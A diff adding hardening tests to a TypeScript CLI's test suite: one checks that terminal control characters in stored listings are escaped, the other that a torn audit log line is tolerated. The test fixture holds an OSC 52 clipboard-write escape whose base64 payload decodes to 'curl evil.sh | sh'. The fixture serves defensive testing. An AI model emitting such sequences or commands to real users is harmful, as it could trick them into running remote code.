@@ -6,6 +6,7 @@ import { main } from '../../src/cli/main.js';
 import { FileStore } from '../../src/store/file-store.js';
 import { createAssessment, createDraft, LOW_VECTOR } from '../factories/draft.js';
 import { createListing } from '../factories/listing.js';
+import { controlCharacters } from '../helpers/controls.js';
 import { captureIo } from '../helpers/io.js';
 
 async function seeded(): Promise<{ data: string; tokens: Record<string, string> }> {
@@ -39,6 +40,62 @@ async function run(args: string[], env: NodeJS.ProcessEnv = {}) {
   const code = await main(args, io);
   return { code, out: io.out(), err: io.err(), lines: io.out().trim().split('\n').filter(Boolean).map((l) => JSON.parse(l) as Record<string, unknown>) };
 }
+
+describe('hardening #4 (control characters never reach a terminal)', () => {
+  // An OSC 52 clipboard write, a CSI screen clear, a C1 CSI and a bell, as a listing stored by an
+  // older version (or any other source) could still carry them.
+  const HOSTILE = 'Evil\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007 Agent\u001b[2J\u009b31m\u0085';
+
+  it('hardening #4: drafts list and show escape control characters from stored listings, on a TTY and in JSON lines', async () => {
+    const data = mkdtempSync(join(tmpdir(), 'td-drafts-'));
+    const store = new FileStore({ root: data });
+    await store.listings.put(createListing({ title: HOSTILE }));
+    await store.drafts.save(createDraft({ assessment: { ...createAssessment(), summary: `Summary ${HOSTILE}` } }), null);
+    await store.close();
+    for (const args of [['drafts', 'list'], ['drafts', 'show', 'acme-ops-agent.r1']]) {
+      const tty = captureIo({ tty: true });
+      expect(await main([...args, '--data', data], tty)).toBe(0);
+      expect(controlCharacters(tty.out())).toEqual([]);
+      expect(tty.out()).toContain('Evil\\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u0007 Agent\\u001b[2J\\u009b31m\\u0085');
+      const json = captureIo();
+      expect(await main([...args, '--data', data, '--json'], json)).toBe(0);
+      expect(controlCharacters(json.out())).toEqual([]);
+      // Escaped inside JSON strings, the value is the same: machines still read the stored text.
+      expect(json.out()).toContain(JSON.stringify(HOSTILE).slice(1, -1).replace('\u009b', '\\u009b').replace('\u0085', '\\u0085'));
+    }
+    const listed = captureIo();
+    await main(['drafts', 'list', '--data', data, '--json'], listed);
+    expect((JSON.parse(listed.out().split('\n')[0]!) as { title: string }).title).toBe(HOSTILE);
+  });
+});
+
+describe('hardening #5 (a torn audit log)', () => {
+  it('hardening #5: drafts show, the draft page and status work after a crash tore the last audit line; status names the line', async () => {
+    const { data, tokens } = await seeded();
+    expect((await run(['drafts', 'approve', 'calm-notes.r1', '--data', data, '--json'], { THREATDRAFT_REVIEWER_TOKEN: tokens['alice']! })).code).toBe(0);
+    writeFileSync(join(data, 'audit.jsonl'), '{"at":"2025-03-01T12:00:00.000Z","actor":"bob","act', { flag: 'a' });
+    const show = await run(['drafts', 'show', 'calm-notes.r1', '--data', data, '--json']);
+    expect(show.code).toBe(0);
+    expect(show.lines[0]).toMatchObject({ draft: { id: 'calm-notes.r1' }, audit: [expect.objectContaining({ action: 'approve' })] });
+    const status = await run(['status', '--data', data, '--json']);
+    expect(status.code).toBe(0);
+    expect(status.lines[0]).toMatchObject({ store: 'file', auditEntries: 3, auditTornLines: [4] });
+    const human = captureIo({ tty: true });
+    expect(await main(['status', '--data', data], human)).toBe(0);
+    expect(human.out()).toMatch(/audit torn lines +1 \(line 4\): writes cut short by a crash or a full disk, skipped by every reader/);
+    const { createReviewApp } = await import('../../src/review/app.js');
+    const { ReviewService } = await import('../../src/review/service.js');
+    const store = new FileStore({ root: data });
+    try {
+      const app = createReviewApp({ service: new ReviewService({ store }) });
+      const page = await app.request('/api/drafts/calm-notes.r1', { headers: { Authorization: `Bearer ${tokens['bob']!}` } });
+      expect(page.status).toBe(200);
+      expect(((await page.json()) as { audit: unknown[] }).audit).toHaveLength(1);
+    } finally {
+      await store.close();
+    }
+  });
+});
 
 describe('threatdraft drafts', () => {
   it('lists drafts highest score first with a summary line last, and filters by status', async () => {
